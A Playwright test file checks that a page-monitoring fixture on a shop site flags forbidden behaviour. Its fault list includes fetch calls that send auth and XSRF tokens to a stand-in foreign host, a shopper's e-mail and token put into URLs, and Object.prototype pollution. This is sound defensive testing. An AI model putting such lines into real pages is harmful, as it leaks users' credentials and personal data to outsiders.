import { expect, test } from './support/shop.ts';
import { ADDRESS } from './support/shopper.ts';
import { createWatch } from './support/watch.ts';

const FOREIGN = 'https://stranger.example';
const PAGE = `<!doctype html><title>x</title><p>₹NaN</p><p>Sold by null</p><img alt="undefined" src="data:,"><p>[object Object]</p>`;

/** Forbidden actions of a page, and the problem that the fixture must report for each. */
const FAULTS: readonly (readonly [name: string, script: string, seen: RegExp])[] = [
  ['throws', 'setTimeout(() => { throw new Error("loose end") })', /^uncaught: Error: loose end/],
  ['leaves a rejected promise unhandled', 'void Promise.reject(new Error("unhandled"))', /^uncaught: Error: unhandled/],
  ['logs an error', 'console.error("odd")', /^console error: odd/],
  ['logs a warning', 'console.warn("odd")', /^console warning: odd/],
  [
    'requests a foreign origin',
    `fetch("${FOREIGN}/pixel")`,
    /^asked a foreign origin: https:\/\/stranger\.example\/pixel/,
  ],
  [
    'sends the token to a foreign origin',
    `fetch("${FOREIGN}/", { headers: { token: "abc.def" } })`,
    /^sent token to https:\/\/stranger/,
  ],
  [
    'sends the XSRF token to a foreign origin',
    `fetch("${FOREIGN}/", { headers: { "x-xsrf-token": "x" } })`,
    /^sent x-xsrf-token to/,
  ],
  [
    'puts the token into a URL',
    'fetch("/api/x", { headers: { token: "abc.def" } }); fetch("/api/y?token=abc.def")',
    /^leaked “abc\.def”: address /,
  ],
  [
    'puts the shopper’s e-mail into a URL',
    `fetch("/api/x?mail=${encodeURIComponent(ADDRESS.Email)}")`,
    /^leaked “lakshmi@/,
  ],
  ['logs personal data to the console', `console.log("${ADDRESS['Mobile number']}")`, /^leaked “9876543210”: console /],
  [
    'violates the page’s policy',
    'document.body.append(Object.assign(new Image(), { src: "https://stranger.example/x" }))',
    /^console error: policy: img-src/,
  ],
  ['extends Object.prototype', 'Object.prototype.polluted = 1', /^prototype: polluted/],
];

test('S10 S15 S20: the watch fixture reports everything forbidden', async ({ browser, backend }) => {
  const context = await browser.newContext();
  const watch = createWatch(backend.url);
  await watch.follow(context);
  await context.route(/./, (route) => {
    const headers = {
      'Content-Type': 'text/html; charset=utf-8',
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Content-Security-Policy': "img-src 'self' data:",
    };
    return route.fulfill({ headers, body: route.request().isNavigationRequest() ? PAGE : '' });
  });
  const page = await context.newPage();
  await page.goto(`${backend.url}/`);
  for (const [, script] of FAULTS) await page.evaluate(script);
  for (const [name, , seen] of FAULTS)
    await expect
      .poll(() => watch.problems(context), `a page that ${name} is reported`)
      .toContainEqual(expect.stringMatching(seen));
  const problems = await watch.problems(context);
  for (const text of ['text: ₹NaN', 'text: Sold by null', 'alt="undefined"', 'text: [object Object]'])
    expect(problems).toContain(text);
  await context.close();
});
